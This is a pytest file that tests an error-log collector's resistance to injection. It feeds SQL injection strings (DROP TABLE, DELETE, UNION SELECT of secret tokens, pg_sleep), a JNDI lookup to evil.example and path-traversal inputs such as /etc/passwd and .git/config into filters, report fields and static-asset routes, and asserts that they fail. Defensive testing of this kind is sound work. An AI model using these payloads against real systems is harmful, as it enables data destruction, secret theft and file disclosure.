"""What somebody asks for is data: no statement of a database, and no path of a file."""

from collections.abc import Iterator
from urllib.parse import quote

import pytest

from support.collector import Collector, start
from support.raw import ask
from support.sending import a_report

STATEMENTS = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE issues; --",
    "'; SELECT pg_sleep(60); --",
    "' UNION SELECT secret FROM tokens --",
    "%' AND 1=1 AND '%'='",
    "\\'; DELETE FROM projects; --",
    "${jndi:ldap://evil.example/a}",
    "shop'||(SELECT 1)||'",
    "*) OR (1=1",
]
FILTERS = ["q", "project_id", "environment", "version"]
FILES = [
    "../settings.py",
    "..%2fsettings.py",
    "%2e%2e/%2e%2e/cli.py",
    "....//cli.py",
    "/etc/passwd",
    "..\\..\\cli.py",
    ".git/config",
    "%00",
    "style.css%00",
    "a" * 300,
]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def collector(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Collector]:
    folder = tmp_path_factory.mktemp("injection")
    postgres = request.getfixturevalue("postgres") if request.param == "postgresql" else None
    url = postgres.new_database() if postgres else f"sqlite:///{folder / 'logs.db'}"
    collector = start(url, folder=folder)
    collector.report(a_report("shop"))
    yield collector
    assert collector.stop() == 0
    if postgres:
        postgres.drop_database(url)


@pytest.mark.parametrize("name", FILTERS)
def test_a_statement_in_a_filter_finds_nothing_and_changes_nothing(collector: Collector, name: str) -> None:
    found = [collector.issues(**{name: statement}) for statement in STATEMENTS]

    assert [[]] * len(STATEMENTS) == found
    assert 1 == len(collector.issues(project_id="shop"))


def test_a_statement_in_every_field_of_a_report_is_stored_as_it_is(collector: Collector) -> None:
    for number, text in enumerate(STATEMENTS):
        report = a_report("texts", type=text, message=text, file_path=text, line_number=number, environment=text)
        shown = collector.issue(collector.report(report | {"version": text, "context": {text: text}})["id"])

        assert (text, text, text) == (shown["error"]["type"], shown["environment"], shown["context"][text])
        assert [shown["id"]] == [issue["id"] for issue in collector.issues(environment=text)]


@pytest.mark.parametrize("path", FILES)
@pytest.mark.parametrize("assets", ["dashboard_url /static/", "api_url /docs/assets/"])
def test_no_file_beside_the_assets_is_served(collector: Collector, assets: str, path: str) -> None:
    port, folder = assets.split(" ")

    answer = ask(
        getattr(collector, port), f"GET {folder}{quote(path, safe='%/.')} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
    )

    assert answer is not None
    assert 404 == answer.status
